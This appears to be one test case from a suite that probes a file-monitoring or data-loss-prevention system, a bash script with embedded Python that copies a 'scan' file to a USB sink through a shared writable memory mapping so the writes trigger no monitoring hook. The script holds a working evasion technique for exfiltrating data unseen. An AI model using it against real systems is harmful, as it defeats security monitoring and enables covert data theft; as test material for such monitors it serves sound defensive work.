#!/usr/bin/env bash
# technique: a shared writable mapping of the USB file is made before the scan is read: stores fire no hook
# hooks: file_open (of the scan)
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *
import mmap

with open(COPY, "w+b") as file:
    file.truncate(os.stat(SCAN).st_size)
    room = mmap.mmap(file.fileno(), 0)
try:
    room[:] = scan()
except PermissionError:
    os.unlink(COPY)
    raise
PY
